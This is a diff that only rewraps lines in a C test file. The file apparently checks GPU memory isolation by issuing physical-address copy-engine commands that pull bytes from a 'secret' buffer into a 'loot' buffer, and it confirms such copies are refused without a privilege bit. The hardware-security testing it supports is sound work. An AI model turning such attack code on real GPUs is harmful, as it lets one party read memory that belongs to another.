@@ -1,5 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-only
-/* Copies by physical address: one bit of RAMFC decides. And translation caches that nobody invalidated. */
+/*
+ * Copies by physical address: one bit of RAMFC decides. And translation caches that nobody
+ * invalidated.
+ */
 #include "attacks.h"
 
 #include <linux/bitfield.h>
@@ -14,9 +17,12 @@
 
 enum { RUN_MS = 3000, REFUSED_MS = 300, BYTES = 512 };
 
-static void open_channel(struct bare_gpu *g, struct bare_space *s, struct bare_chan *c, unsigned int id, bool hce_priv)
+static void open_channel(struct bare_gpu *g, struct bare_space *s, struct bare_chan *c,
+			 unsigned int id, bool hce_priv)
 {
-	struct bare_chan_config cfg = { .id = id, .runlist = g->engine[BARE_CE0].runlist, .hce_priv = hce_priv };
+	struct bare_chan_config cfg = { .id = id,
+					.runlist = g->engine[BARE_CE0].runlist,
+					.hce_priv = hce_priv };
 	uint32_t entry = id;
 
 	bare_space_create(g, s);
@@ -30,7 +36,8 @@ static void close_channel(struct bare_chan *c)
 	bare_chan_destroy(c);
 }
 
-static void emit_physical(struct bare_chan *c, uint64_t src, uint32_t src_target, uint64_t dst, uint32_t dst_target)
+static void emit_physical(struct bare_chan *c, uint64_t src, uint32_t src_target, uint64_t dst,
+			  uint32_t dst_target)
 {
 	bare_emit(c, SUBCH_COPY, HOST_SET_OBJECT, A0B5_CLASS);
 	bare_emit(c, SUBCH_COPY, A0B5_SET_SRC_PHYS_MODE, src_target, dst_target);
@@ -64,9 +71,13 @@ static void refused_without_privilege(struct bare_gpu *g, uint64_t secret_bus, u
 	ran = bare_run(&c, REFUSED_MS);
 	p = refused_by(g);
 	tap_result(!ran && p >= 0 && loot[0] == 0 && loot[BYTES - 1] == 0,
-		   "without HCE_PRIV_MODE a physical copy is refused by the host unit", "PBDMA %d, channel %d", p,
-		   p < 0 ? -1 : (int)FIELD_GET(PBDMA_CHANNEL_ID, bare_read(g, PBDMA(p) + PBDMA_CHANNEL)));
-	bare_write(g, PCCSR_CHAN(c.id), FIELD_PREP(PCCSR_CHAN_RUNLIST, c.runlist) | PCCSR_CHAN_ENABLE_CLR);
+		   "without HCE_PRIV_MODE a physical copy is refused by the host unit",
+		   "PBDMA %d, channel %d", p,
+		   p < 0 ? -1 :
+			   (int)FIELD_GET(PBDMA_CHANNEL_ID,
+					  bare_read(g, PBDMA(p) + PBDMA_CHANNEL)));
+	bare_write(g, PCCSR_CHAN(c.id),
+		   FIELD_PREP(PCCSR_CHAN_RUNLIST, c.runlist) | PCCSR_CHAN_ENABLE_CLR);
 	if (p >= 0)
 		bare_write(g, PBDMA(p) + PBDMA_INTR1, ~0u);
 	close_channel(&c);
@@ -91,7 +102,8 @@ void attack_physical(struct machine *m)
 	memset(loot, 0x3d, BYTES);
 	emit_physical(&c, loot_bus, A0B5_PHYS_COHERENT, secret_bus + 2048, A0B5_PHYS_COHERENT);
 	ran = bare_run(&c, RUN_MS);
-	tap_result(ran && !memcmp(loot, secret + 2048, BYTES), "attack works: ... and writes it", NULL);
+	tap_result(ran && !memcmp(loot, secret + 2048, BYTES), "attack works: ... and writes it",
+		   NULL);
 	pattern_fill(text, sizeof(text), 6);
 	bare_mem_write(g, BARE_VRAM, vram, text, sizeof(text));
 	emit_physical(&c, vram, A0B5_PHYS_LOCAL_FB, loot_bus, A0B5_PHYS_COHERENT);
